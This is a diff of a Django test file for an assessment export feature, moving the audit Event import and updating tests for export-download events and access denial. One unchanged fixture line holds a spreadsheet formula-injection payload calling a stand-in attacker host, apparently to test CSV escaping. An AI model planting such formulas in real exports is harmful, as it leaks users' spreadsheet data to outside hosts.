@@ -12,7 +12,7 @@ from django.core.management import CommandError, call_command
 from django.urls import reverse
 
 from assessments import selectors, services
-from assessments.models import Answer, Assessment, Event, ScoreSnapshot
+from assessments.models import Answer, Assessment, ScoreSnapshot
 from assessments.transfer import (
     TransferError,
     answers_csv,
@@ -20,6 +20,7 @@ from assessments.transfer import (
     import_assessment_data,
     spreadsheet_safe,
 )
+from audit.models import Event
 
 UNICODE_NOTE = "Évaluation du shérif — 証拠は記録課に保管 ✓; «مرحبا» \u202eRTL\u202c; emoji 🚓"
 FORMULA_NOTE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
@@ -421,9 +422,10 @@ def test_command_staff_download_the_json_export(approved, command, client_for, a
     assert data["answers"] == export_assessment_data(assessment=approved)["answers"]
     copy_ = import_assessment_data(data=data, agency=agency).assessment
     assert scores_of(copy_) == scores_of(approved)
-    download = Event.objects.filter(assessment=approved, kind=Event.Kind.REPORT_DOWNLOADED).get()
+    download = Event.objects.filter(assessment=approved, kind=Event.Kind.EXPORT_DOWNLOADED).get()
     assert download.actor == command
-    assert download.new["export"] == "json"
+    assert download.new == {"revision": approved.revision, "status": "approved"}
+    assert not Event.objects.filter(kind=Event.Kind.REPORT_DOWNLOADED).exists()
 
 
 @pytest.mark.parametrize("name", ["assessment_export_json", "assessment_export_csv"])
@@ -431,7 +433,8 @@ def test_preparers_may_not_download_exports(name, draft, preparer, client_for):
     response = client_for(preparer).get(reverse(name, args=[draft.pk]))
 
     assert response.status_code == 403
-    assert not Event.objects.filter(kind=Event.Kind.REPORT_DOWNLOADED).exists()
+    downloads = [Event.Kind.EXPORT_DOWNLOADED, Event.Kind.ANSWERS_CSV_DOWNLOADED]
+    assert not Event.objects.filter(kind__in=downloads).exists()
 
 
 @pytest.mark.parametrize("name", ["assessment_export_json", "assessment_export_csv"])
